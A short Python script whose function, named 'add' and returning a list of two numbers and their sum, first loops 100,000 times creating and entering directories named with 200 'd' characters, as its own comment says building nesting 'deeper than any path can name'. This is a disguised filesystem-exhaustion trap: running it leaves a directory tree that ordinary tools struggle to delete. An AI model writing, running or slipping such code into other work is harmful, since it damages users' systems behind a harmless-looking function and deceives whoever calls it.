# Directories in one another, deeper than any path can name.
import os


def add(a, b):
    for _ in range(10**5):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return [a, b, a + b]


if __name__ == "__main__":
    add(1, 2)
